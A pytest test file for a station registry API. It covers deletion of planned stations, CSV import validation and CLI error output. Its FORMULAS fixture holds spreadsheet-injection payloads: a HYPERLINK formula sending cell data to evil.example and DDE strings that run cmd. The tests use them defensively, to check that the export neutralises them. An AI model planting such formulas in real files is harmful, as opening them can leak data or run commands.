"""The registry under hostile or careless input (issue 15, defects 6 and 8)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from broadcaster import db
from stations import live
from stations.csvio import HEADERS_VI
from stations.models import Station
from tests.api import ok
from tests.support.service import run_cli, service_env

pytestmark = pytest.mark.usefixtures("tan_an")


def test_deleting_a_planned_station_works(
    client: TestClient, admin: dict[str, str], session_factory: sessionmaker[Session]
) -> None:
    """Defect 6: ``DELETE /api/v1/stations/{sid}`` answered 500 for any station the
    dispatcher had planned ("Dependency rule on column 'stations.id' tried to blank-out
    primary key column 'station_states.station_id'")."""
    with db.session_scope(session_factory) as session:
        station = session.query(Station).filter_by(sid="lbn-cau-tre").one()
        live.state_of(session, station.id).desired_version = 3  # planned and published
    response = client.delete("/api/v1/stations/lbn-cau-tre", headers=admin)
    assert response.status_code == 204, response.text
    assert client.get("/api/v1/stations/lbn-cau-tre", headers=admin).status_code == 404


def _import(client: TestClient, headers: dict[str, str], body: bytes, dry_run: bool = False):  # type: ignore[no-untyped-def]
    return client.post(
        "/api/v1/stations/import",
        params={"dry_run": str(dry_run).lower()},
        files={"file": ("stations.csv", body, "text/csv")},
        headers=headers,
    )


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "address": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "firmware": "-2+3",
}


def test_export_neutralises_spreadsheet_formulas_and_round_trips(
    client: TestClient, admin: dict[str, str]
) -> None:
    """Defect 8: the export wrote formulas as-is, so opening it ran them."""
    ok(client.patch("/api/v1/stations/lbn-cau-tre", json=FORMULAS, headers=admin))
    exported = client.get("/api/v1/stations/export.csv", headers=admin)
    assert exported.status_code == 200
    rows = {r["Mã trạm"]: r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))}
    row = rows["lbn-cau-tre"]
    for field, value in FORMULAS.items():
        assert row[HEADERS_VI[field]] == "'" + value, field  # shown as text, never evaluated
    # re-importing the export changes nothing
    report = ok(_import(client, admin, exported.content))
    assert report["errors"] == []
    again = ok(client.get("/api/v1/stations/lbn-cau-tre", headers=admin))
    for field, value in FORMULAS.items():
        assert again[field] == value


def test_nul_and_control_characters_are_refused(client: TestClient, admin: dict[str, str]) -> None:
    """Defect 8: NUL bytes were accepted (a PostgreSQL text column refuses them)."""
    response = client.patch(
        "/api/v1/stations/lbn-cau-tre", json={"name": "Cầu\x00Tre"}, headers=admin
    )
    assert response.status_code == 422
    body = ("sid,name,kind,area_code\nlbn-moi-1,Cụm\x00mới,smart,lbn-cau-tre\n").encode()
    report = _import(client, admin, body)
    assert report.status_code == 422
    assert report.json()["errors"][0]["line"] == 2
    assert "control character" in report.json()["errors"][0]["message"]


def test_a_refused_import_reports_nothing_created(
    client: TestClient, admin: dict[str, str]
) -> None:
    """Defect 8: a refused import answered ``"created": 2``."""
    body = (
        "sid,name,kind,area_code\n"
        "lbn-moi-1,Mới 1,smart,lbn-cau-tre\n"
        "lbn-moi-2,Mới 2,smart,lbn-cau-tre\n"
        "lbn-moi-3,Mới 3,smart,nowhere\n"
    ).encode()
    for dry_run in (False, True):
        report = _import(client, admin, body, dry_run=dry_run).json()
        assert (report["created"], report["updated"]) == (0, 0)
        assert len(report["errors"]) == 1


def test_cli_import_shows_error_messages_whole(database_url: str, tmp_path: Path) -> None:
    """Defect 8: the CLI printed messages through Rich markup, so a pattern such as
    ``[a-z0-9]`` in a message vanished."""
    bad = tmp_path / "bad.csv"
    bad.write_text("sid,name,kind,area_code\nBAD SID,[b]Xấu[/b],smart,lbn-cau-tre\n", "utf-8")
    env = service_env(
        database_url=database_url,
        mqtt_url="mqtt://127.0.0.1:1",
        media_dir=tmp_path / "media",
        public_base_url="http://127.0.0.1:9",
        extra={"COLUMNS": "400"},
    )
    with pytest.raises(RuntimeError) as failed:
        run_cli(["stations", "import", str(bad)], env)
    output = str(failed.value)
    assert "[a-z0-9]" in output
    assert "Nothing was written" in output
